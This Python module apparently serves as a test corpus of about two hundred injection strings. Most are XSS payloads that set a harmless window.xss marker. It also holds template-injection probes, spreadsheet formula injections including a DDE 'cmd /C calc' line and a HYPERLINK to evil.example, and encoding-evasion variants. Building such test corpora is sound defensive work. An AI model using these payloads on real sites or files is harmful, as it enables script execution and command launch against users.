"""Two hundred texts by which somebody would have a page do what they want: each sets `window.xss` where it succeeds."""

from __future__ import annotations

DOES = "window.xss=1"

_ELEMENTS = (
    f"<script>{DOES}</script>",
    f"<img src=x onerror={DOES}>",
    f"<svg onload={DOES}>",
    f"<svg><animate onbegin={DOES} attributeName=x dur=1s>",
    f"<details open ontoggle={DOES}>",
    f"<body onload={DOES}>",
    f"<input autofocus onfocus={DOES}>",
    f"<iframe srcdoc='<script>parent.{DOES}</script>'>",
    f"<object data='javascript:{DOES}'>",
    f"<a href='javascript:{DOES}'>klik</a>",
    f"<form action='javascript:{DOES}'><button>x</button></form>",
    f"<math><mtext><script>{DOES}</script></mtext></math>",
    f"<video><source onerror={DOES}></video>",
    f"<style>@import 'javascript:{DOES}'</style>",
    f"<link rel=stylesheet href='data:text/css,*{{}}' onload={DOES}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{DOES}'>",
    f"<template shadowrootmode=open><img src=x onerror={DOES}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={DOES}>'>",
    f"<base href='javascript:{DOES}//'>",
    f"<dialog open onclose={DOES}><form method=dialog><button autofocus>x</button></form></dialog>",
)
_AROUND = (
    "{}",
    "'>{}",
    '">{}',
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "\x00{}",
)
_OTHERS = (
    f"javascript:{DOES}",
    f'" autofocus onfocus={DOES} x="',
    f"' autofocus onfocus={DOES} x='",
    f"{{{{ {DOES} }}}}",
    "{{7*7}}{% raw %}{{ cycler.__init__.__globals__ }}",
    "{ $badge }",
    "<b>vet</b> <a href='https://evil.example'>link</a>",
    f'\n\nevent: part\ndata: {{"id":"main","html":"<img src=x onerror={DOES}>"}}\n\n',
    f"\r\n\r\n<script>{DOES}</script>",
    f'=HYPERLINK("https://evil.example","{DOES}")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    f"＜script＞{DOES}＜/script＞",
    f"&lt;script&gt;{DOES}&lt;/script&gt;",
    f"%3Cscript%3E{DOES}%3C/script%3E",
    f"\\u003cscript\\u003e{DOES}\\u003c/script\\u003e",
    "\u202etpircs\u202c",
)

PAYLOADS: tuple[str, ...] = (*(around.format(one) for around in _AROUND for one in _ELEMENTS), *_OTHERS)

FORMULAS = tuple(one for one in PAYLOADS if one[:1] in "=+-@\t\r")
"""Those that a spreadsheet would reckon with."""
